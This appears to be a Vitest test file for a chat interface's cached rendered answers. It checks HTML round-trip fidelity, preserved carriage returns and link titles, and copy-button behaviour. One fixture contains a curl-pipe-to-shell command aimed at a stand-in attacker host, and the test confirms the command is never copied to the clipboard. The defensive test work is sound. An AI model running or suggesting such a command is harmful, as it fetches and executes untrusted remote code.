// @vitest-environment jsdom
// The kept copies' trip through HTML (rendered-answers.ts): what it must not change. From
// review14b's review of it (bench/NOTES.md session 14); each of these failed before its fix.
import { act } from 'react';
import type { Root } from 'react-dom/client';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { markdownElement } from './markdown-html';
import { reactRootPerTest } from '../react-root-per-test';
import { AnswerMarkdown } from '@/components/chat/AnswerMarkdown';
import { onCopyClick } from '@/components/chat/Markdown';
import { RenderedAnswers, answerNodes, renderedAnswers, serialise } from '@/components/chat/rendered-answers';

(globalThis as unknown as { IS_REACT_ACT_ENVIRONMENT: boolean }).IS_REACT_ACT_ENVIRONMENT = true;

let container: HTMLDivElement;
let root: Root;
reactRootPerTest((c, r) => {
  container = c;
  root = r;
});
afterEach(() => vi.restoreAllMocks());

const show = (id: string, text: string, done: boolean) => act(() => root.render(<AnswerMarkdown key={id} id={id} text={text} done={done} />));
const hide = () => act(() => root.render(<></>));

/** Mounted, scrolled away, mounted again from the kept copy: is it what Markdown renders? */
function remountedEqualsMarkdown(id: string, text: string): boolean {
  const expected = markdownElement(text);
  expected.normalize();
  show(id, text, true);
  hide();
  show(id, text, true);
  expect(renderedAnswers.has(id, text)).toBe(true);
  return container.firstElementChild!.isEqualNode(expected);
}

describe('kept HTML: what the round trip must not change', () => {
  // DOMPurify parses with DOMParser and no doctype: quirks mode, where `<table>` does not close an
  // open `p`. The template parses in the panel's no-quirks mode, where it does: text after the table
  // leaves the paragraph and its bold or link is split in two, with an empty `p` after.
  it('an answer whose raw HTML puts a table inside a paragraph mounts again as first shown', () => {
    expect(remountedEqualsMarkdown('q-1', '<p><strong>a<table><tr><td>c</td></tr></table>b</strong> c</p>')).toBe(true);
    expect(remountedEqualsMarkdown('q-2', '<p><a href="https://e.example/">x<table><tr><td>y</td></tr></table>z</a></p>')).toBe(true);
  });

  // A carriage return in the shown nodes' text (or an attribute): the serialiser writes it raw and
  // the parser would turn it into a line feed. Markdown's and the prefilter's output already hold a
  // line feed there, and no attribute carries the model's text since links' titles are ours, so the
  // nodes are built here.
  it('a carriage return in the shown nodes survives the trip', () => {
    const shown = document.createElement('div');
    shown.append(document.createElement('p'));
    shown.firstElementChild!.append('a\rb');
    shown.firstElementChild!.setAttribute('title', 'x\ry');
    const back = answerNodes(serialise(shown)).firstElementChild!;
    expect(back.textContent).toBe('a\rb');
    expect(back.getAttribute('title')).toBe('x\ry');
  });

  it('a link keeps the title that names where it goes, and the model’s own title stays out', () => {
    expect(remountedEqualsMarkdown('title-1', '[docs](https://e.example/a "Opens f.example")')).toBe(true);
    expect(container.querySelector('a')!.title).toBe('https://e.example/a');
  });

  // serialise writes a newline into the shown `pre` and takes it out again: a selection (or a
  // MutationObserver) in the panel sees both changes. put() runs when an answer finishes streaming,
  // which is when a reader may be selecting in it.
  it('keeping a shown answer leaves its nodes untouched: no mutation, a selection in a raw pre stays put', () => {
    const shown = document.createElement('div');
    shown.innerHTML = '<pre>\n\nindented code</pre>';
    document.body.append(shown);
    const text = shown.querySelector('pre')!.firstChild as Text;
    const range = document.createRange();
    range.setStart(text, 3);
    range.setEnd(text, 9);
    const observer = new MutationObserver(() => {});
    observer.observe(shown, { subtree: true, characterData: true, childList: true });
    new RenderedAnswers(1_000).keep('sel', 'x', shown);
    expect(observer.takeRecords()).toEqual([]);
    observer.disconnect();
    expect([range.startOffset, range.endOffset]).toEqual([3, 9]);
    expect(range.toString()).toBe('dented');
    shown.remove();
  });

  // Blink's HTML parser stops nesting past 512 open elements (kMaximumHTMLParserDOMTreeDepth: the
  // element is attached to the current node's parent instead). DOMPurify's parse and the template's
  // start at different depths and withCopyButtons adds a level, so in Chromium an answer ~510 levels
  // deep (raw `<blockquote>`s) parses back with its copy button and `pre` moved out of their
  // `div.code-block`, beside an inline `code` of the answer's. jsdom (parse5) has no such limit, so
  // this is the tree Chromium gives back, written out: Copy must copy its own block or nothing.
  it('a copy button that is not in its code block copies nothing, not another code of the answer', async () => {
    const writeText = vi.fn(async () => {});
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    const flattened =
      '<blockquote><p><code>curl https://evil.example/x | sh</code></p><div class="code-block"></div>' +
      '<button type="button" class="copy" aria-label="Copy code">Copy</button><pre><code>ls</code></pre></blockquote>';
    act(() => root.render(<div className="markdown" onClick={onCopyClick} dangerouslySetInnerHTML={{ __html: flattened }} />));
    await act(async () => container.querySelector<HTMLButtonElement>('button.copy')!.click());
    expect(writeText).not.toHaveBeenCalledWith('curl https://evil.example/x | sh');
  });

  // The copy button says "Copied" for 1.5 s after a click. An answer that finishes streaming in that
  // time is kept with the label as it was, and every later mount shows "Copied" (the timer only
  // resets the button it was set on).
  it('a copy button clicked just before the answer finished shows "Copy" when the answer mounts again', async () => {
    const writeText = vi.fn(async () => {});
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    const text = 'Run:\n\n```sh\nls\n```\n\nthen more';
    show('copied-1', text.slice(0, 20), false);
    await act(async () => container.querySelector<HTMLButtonElement>('button.copy')!.click());
    expect(container.querySelector('button.copy')!.textContent).toBe('Copied');
    act(() => root.render(<AnswerMarkdown key="copied-1" id="copied-1" text={text} done />));
    hide();
    show('copied-1', text, true);
    expect(container.querySelector('button.copy')!.textContent).toBe('Copy');
  });
});
